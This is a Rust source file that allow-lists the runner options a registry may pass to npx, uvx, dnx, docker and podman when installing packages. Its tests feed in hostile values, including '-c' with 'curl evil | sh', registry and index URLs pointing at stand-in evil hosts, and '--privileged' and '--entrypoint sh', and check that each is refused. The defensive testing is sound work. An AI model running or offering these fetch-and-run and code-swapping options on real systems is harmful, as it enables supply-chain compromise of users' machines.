//! Package runners, and the options for them that are accepted from a registry.

use crate::plan::error::PlanError;
use crate::plan::install_plan::PlanItem;
use crate::plan::template::{Template, TemplatePiece};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum PackageRunner {
    Npx,
    Bunx,
    Uvx,
    Dnx,
    Docker,
    Podman,
}

/// The allow-list of runner options from a registry, separated by spaces. Any other option could
/// load other code than the package that was shown.
struct AllowedOptions {
    plain: &'static str,
    with_value: &'static str,
}

const NPX: AllowedOptions = AllowedOptions {
    plain: "-y --yes -q --quiet --silent --prefer-offline",
    with_value: "--loglevel",
};
const BUNX: AllowedOptions = AllowedOptions { plain: "", with_value: "" };
const UVX: AllowedOptions = AllowedOptions {
    plain: "-q --quiet --no-progress --isolated --offline -v --verbose",
    with_value: "-p --python",
};
const DNX: AllowedOptions = AllowedOptions {
    plain: "-y --yes --allow-roll-forward --prerelease",
    with_value: "-v --verbosity",
};
const CONTAINER: AllowedOptions = AllowedOptions {
    plain: "-i --interactive --rm --init --read-only -q --quiet",
    // Options such as `--privileged` and `--device` give away the machine and are not listed.
    with_value: "-e --env -v --volume --mount -p --publish --network --net --name -u --user -w --workdir \
                 --add-host --platform --pull -m --memory --cpus --tmpfs -l --label -h --hostname \
                 --shm-size --cap-drop --dns --stop-timeout --log-driver --ulimit --pids-limit",
};

impl PackageRunner {
    /// Returns the runner for a type of package; a hint selects among compatible runners.
    pub(crate) fn for_package(kind: &str, hint: Option<&str>) -> Option<Self> {
        match (kind, hint) {
            ("npm", Some("bunx" | "bun")) => Some(Self::Bunx),
            ("npm", _) => Some(Self::Npx),
            ("pypi", _) => Some(Self::Uvx),
            ("nuget", _) => Some(Self::Dnx),
            ("oci", Some("podman")) => Some(Self::Podman),
            ("oci" | "docker", _) => Some(Self::Docker),
            _ => None,
        }
    }

    pub(crate) const fn command(self) -> &'static str {
        match self {
            Self::Npx => "npx",
            Self::Bunx => "bunx",
            Self::Uvx => "uvx",
            Self::Dnx => "dnx",
            Self::Docker => "docker",
            Self::Podman => "podman",
        }
    }

    pub(crate) const fn is_container(self) -> bool {
        matches!(self, Self::Docker | Self::Podman)
    }

    const fn options(self) -> AllowedOptions {
        match self {
            Self::Npx => NPX,
            Self::Bunx => BUNX,
            Self::Uvx => UVX,
            Self::Dnx => DNX,
            Self::Docker | Self::Podman => CONTAINER,
        }
    }

    /// Returns the accepted runner options from a registry, without those that are always passed.
    pub(crate) fn accept_items(
        self,
        items: Vec<PlanItem>,
        package: &str,
        said: &[&str],
    ) -> Result<Vec<PlanItem>, PlanError> {
        let allowed = self.options();
        let lists =
            |options: &str, option: &str| options.split_whitespace().any(|one| one == option);
        let mut taken = Vec::new();
        let mut rest = items.into_iter().peekable();
        while let Some(mut item) = rest.next() {
            // A word that depends on answers could become any option.
            let Some([TemplatePiece::Text(first)]) =
                item.words.first().map(|word| word.pieces.as_slice())
            else {
                return Err(PlanError::RunnerArgument(item_text(&item)));
            };
            let first = first.clone();
            let (option, has_value) = match first.split_once('=') {
                Some((option, _)) if option.starts_with("--") => (option, true),
                _ => (first.as_str(), item.words.len() > 1),
            };
            // Some publishers repeat the package and the options that are always passed.
            let name = package.rsplit_once('@').map_or(package, |(name, _)| name);
            if first == package || first == name || said.contains(&first.as_str()) {
                continue;
            }
            if lists(allowed.plain, option) && !has_value {
                taken.push(item);
            } else if lists(allowed.with_value, option) {
                if !has_value {
                    // The value may be the next word.
                    let Some(next) = rest.next_if(|next| next.words.len() == 1) else {
                        return Err(PlanError::RunnerArgument(first));
                    };
                    item.words.extend(next.words);
                    item.required |= next.required;
                }
                taken.push(item);
            } else {
                return Err(PlanError::RunnerArgument(first));
            }
        }
        Ok(taken)
    }
}

fn item_text(item: &PlanItem) -> String {
    item.words.iter().map(Template::display_text).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(runner: PackageRunner, words: &[&str], expected: Result<&str, &str>) {
        let items = words.iter().map(|word| PlanItem::from_fixed_words([*word])).collect();
        let got = runner.accept_items(items, "a@1.2.3", &["run", "-i", "--rm"]);
        let got = got.map(|items| items.iter().map(item_text).collect::<Vec<_>>().join(" "));
        let expected =
            expected.map(str::to_owned).map_err(|word| PlanError::RunnerArgument(word.to_owned()));
        assert_eq!(got, expected, "{runner:?} {words:?}");
    }

    #[test]
    fn words_that_bring_in_other_code_are_refused() {
        check(PackageRunner::Npx, &["-y", "a@1.2.3"], Ok("-y"));
        check(PackageRunner::Npx, &["-y", "a"], Ok("-y"));
        check(PackageRunner::Npx, &["--package=evil"], Err("--package=evil"));
        check(PackageRunner::Npx, &["--package", "evil"], Err("--package"));
        check(PackageRunner::Npx, &["-c", "curl evil | sh"], Err("-c"));
        check(
            PackageRunner::Npx,
            &["--node-options=--require=./x"],
            Err("--node-options=--require=./x"),
        );
        check(
            PackageRunner::Npx,
            &["--registry=https://evil.example"],
            Err("--registry=https://evil.example"),
        );
        check(PackageRunner::Npx, &["b@1.0.0"], Err("b@1.0.0"));
        check(PackageRunner::Uvx, &["--python", "3.12"], Ok("--python 3.12"));
        check(PackageRunner::Uvx, &["--from", "git+https://evil"], Err("--from"));
        check(PackageRunner::Uvx, &["--with", "evil"], Err("--with"));
        check(PackageRunner::Uvx, &["--index-url=https://evil"], Err("--index-url=https://evil"));
        check(PackageRunner::Docker, &["run", "-i", "--rm", "-v", "/a:/b"], Ok("-v /a:/b"));
        check(
            PackageRunner::Docker,
            &["--mount=type=bind,src=/a,dst=/b"],
            Ok("--mount=type=bind,src=/a,dst=/b"),
        );
        check(PackageRunner::Docker, &["--entrypoint", "sh"], Err("--entrypoint"));
        check(PackageRunner::Docker, &["--privileged"], Err("--privileged"));
        check(PackageRunner::Docker, &["--env-file", "x"], Err("--env-file"));
        check(PackageRunner::Docker, &["-v"], Err("-v"));
    }

    #[test]
    fn a_hint_chooses_only_among_runners_of_the_kind() {
        for (kind, hint, expected) in [
            ("npm", None, Some("npx")),
            ("npm", Some("bash"), Some("npx")),
            ("npm", Some("bunx"), Some("bunx")),
            ("pypi", Some("python"), Some("uvx")),
            ("oci", Some("/tmp/evil"), Some("docker")),
            ("oci", Some("podman"), Some("podman")),
            ("nuget", None, Some("dnx")),
            ("cargo", None, None),
            ("shell", Some("bash"), None),
        ] {
            assert_eq!(
                PackageRunner::for_package(kind, hint).map(PackageRunner::command),
                expected,
                "{kind} {hint:?}"
            );
        }
    }
}
